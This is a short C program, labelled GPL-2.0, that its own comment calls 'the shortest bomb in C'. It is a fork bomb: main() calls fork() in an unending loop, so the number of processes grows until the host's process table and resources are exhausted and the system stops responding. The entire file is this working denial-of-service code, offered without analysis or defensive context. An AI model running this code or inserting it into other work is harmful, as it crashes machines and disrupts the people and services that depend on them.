// SPDX-License-Identifier: GPL-2.0-only
/* The shortest bomb in C, and the fastest: it breaks whoever needs time. */
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
